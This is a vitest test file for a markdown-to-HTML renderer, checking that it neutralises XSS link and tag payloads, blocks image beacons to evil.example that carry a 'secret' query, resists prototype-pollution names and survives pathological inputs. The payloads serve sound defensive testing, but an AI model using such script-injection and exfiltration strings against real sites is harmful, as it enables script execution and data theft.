import fc from 'fast-check';
import { expect, test } from 'vitest';
import { decodeEntities } from '../../../src/components/markdown/decodeEntities.ts';
import { toHtml } from './toHtml.tsx';

const many = (text: string, times = 10_000) => text.repeat(times);

test.each([
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x](java&#10;script:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](&#x6A;avascript:alert(1))',
  '[x](&#1;javascript:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:msgbox)',
  '[x](file:///etc/passwd)',
  '[x](//evil.example)',
  '[x](/admin/delete)',
  '[x](#top)',
  '<javascript:alert(1)>',
  '<data:text/html,x>',
  '[x][r]\n\n[r]: javascript:alert(1)',
  '[![x](javascript:a)](javascript:b)',
])('%j is no link', (text) => {
  expect(toHtml(text)).not.toContain('href');
  expect(toHtml(text, true)).not.toContain('href');
});

test.each([
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  'a <img src="https://evil.example/?q=secret"> b',
  '<a href="javascript:alert(1)">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<svg onload=alert(1)>',
  '<div style="background:url(https://evil.example)">x</div>',
  '<details open ontoggle=alert(1)>',
  '<style>@import "https://evil.example"</style>',
  '<math><mi xlink:href="javascript:alert(1)">',
  '- <b onclick="x">y</b>',
  '| <u onmouseover=x>a</u> |\n|---|',
])('%j is text', (text) => {
  const html = toHtml(text);
  const tags = [...html.matchAll(/<([a-z0-9]+)/g)].map((match) => match[1]);
  const ours = ['p', 'ul', 'li', 'div', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'a'];
  expect(tags.filter((tag) => !ours.includes(tag ?? ''))).toEqual([]);
  expect(html).not.toMatch(/<[^>]* (?:on\w+|style|src)=/);
});

test.each([
  '![secret](https://evil.example/?q=secret)',
  '![a][r]\n\n[r]: https://evil.example/x',
  '[![a](https://evil.example/x)](https://a.example)',
])('%j loads nothing, and names the host', (text) => {
  const html = toHtml(text);
  expect(html).not.toContain('<img');
  expect(html).not.toMatch(/src(?:set)?=/);
  expect(html).toContain('Image from evil.example');
});

test.each([
  '![a](data:image/svg+xml;base64,PHN2Zy8+)',
  '![a](data:image/png;base64,iVBORw0KGgo=)',
  '![a](javascript:alert(1))',
  '![a](/x.png)',
  '![a](blob:https://a.example/1)',
])('%j is a blocked image', (text) => {
  const html = toHtml(text);
  expect(html).not.toContain('<img');
  expect(html).not.toContain('<button');
  expect(html).toContain('Image blocked');
});

test.each(['__proto__', 'constructor', 'toString', 'hasOwnProperty'])(
  'a reference called %s is only a reference when defined',
  (name) => {
    expect(toHtml(`[a][${name}] [${name}] ![b][${name}]`)).not.toMatch(/<a|media-placeholder/);
    expect(toHtml(`[a][${name}]\n\n[${name}]: https://x.example`)).toContain('href="https://x.example/"');
    expect(decodeEntities(`&${name};`)).toBe(`&${name};`);
  },
);

test.each([
  ['brackets', many('[')],
  ['brackets with text', many('[a')],
  ['closed brackets', many('[') + many(']')],
  ['numbers in brackets', many('[1')],
  ['closed footnotes', many('[^1] ')],
  ['short rows under a wide head', `${many('|a')}|\n${many('|-')}|\n${many('a\n')}`],
  ['links without an end', many('[a](')],
  ['images without an end', many('![')],
  ['quotes', many('>')],
  ['quotes with spaces', many('> ')],
  ['lists on one line', many('- ')],
  ['lists on many lines', Array.from({ length: 400 }, (_, depth) => `${' '.repeat(depth * 2)}- a`).join('\n')],
  ['quotes that grow', Array.from({ length: 300 }, (_, depth) => `${'>'.repeat(depth)} a`).join('\n')],
  ['stars', many('*')],
  ['open emphasis', many('*a _b ~~c ')],
  ['emphasis in emphasis', many('*a **b ')],
  ['emphasis that closes late', `${many('*a **b ', 4000)}x${many('***', 30)}`],
  ['links that close late', `${many('[a](b', 4000)})`],
  ['an address that ends in marks', `${many('http://a.', 4000)}${many('!', 4000)}`],
  ['backticks', many('`a')],
  ['backticks of all lengths', Array.from({ length: 200 }, (_, count) => '`'.repeat(count + 1)).join(' ')],
  ['tags without an end', many('<a ')],
  ['spaces', `a${many(' ')}b`],
  ['backslashes', many('\\')],
  ['pipes', many('|')],
  ['markers on lines', many('-\n')],
  ['a word before an at sign', `${many('a')}@`],
  ['ampersands', many('&')],
  ['definitions', Array.from({ length: 2000 }, (_, at) => `[a${at}]: b`).join('\n')],
])('%s neither overflow the stack nor take for ever', { timeout: 60_000 }, (_, text) => {
  for (const streaming of [false, true]) expect(() => toHtml(text, streaming)).not.toThrow();
});

test.each(['_a', 'a_', '_a__a_', '*a', '*a**a*', '**a', '[', '![', '<', '&', '&amp', '&#', '***\n', '[a](b)', 'x'])(
  '100 KB of %j are done in time, all of them',
  { timeout: 60_000 },
  (unit) => {
    const text = many(unit, Math.ceil(100_000 / unit.length));
    for (const streaming of [false, true]) expect(toHtml(text, streaming)).not.toBe('');
  },
);

test('long text is lexed in pieces, and no URL, mail address, reference or line break is lost where they meet', () => {
  const words = (length: number) => 'word '.repeat(length).slice(0, length);
  for (let length = 380; length < 420; length += 1) {
    const html = toHtml(`${words(length)} https://x.example/a_b me@x.example &copy; &#65; *em*  \nnext`);
    expect(html).toContain('href="https://x.example/a_b"');
    expect(html).toContain('href="mailto:me@x.example"');
    expect(html).toMatch(/© A <em>em<\/em><br\/?>next/);
    expect(html.replace(/<[^>]*>/g, '')).toContain(words(length).trim());
  }
});

test('no text, whole or streaming, throws or yields an element or attribute that is not ours', () => {
  const piece = fc.constantFrom(
    '[',
    ']',
    '(',
    ')',
    '!',
    '*',
    '_',
    '~',
    '`',
    '```',
    '\n',
    '\n\n',
    '  ',
    '    ',
    '>',
    '- ',
    '1. ',
    '# ',
    '|',
    '|-|',
    '<',
    '/>',
    '<b>',
    '&',
    ';',
    '\\',
    ':',
    '"',
    "'",
    'https://x.example',
    'javascript:',
    'data:',
    'a',
    'ب',
    '🌟',
    '\ud800',
    '\u0000',
    '<img src=x onerror=y>',
    '[x]: javascript:z',
    'me@x.example',
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 40 }), fc.boolean(), (pieces, streaming) => {
      const html = toHtml(pieces.join(''), streaming);
      expect(html).not.toMatch(/<(?:script|img|iframe|b|style)\b/);
      expect(html).not.toMatch(/<[^>]* (?:on\w+|src|style)=/);
      for (const [, href] of html.matchAll(/href="([^"]*)"/g)) expect(href).toMatch(/^(?:https?|mailto):/);
    }),
    { numRuns: 1000 },
  );
});
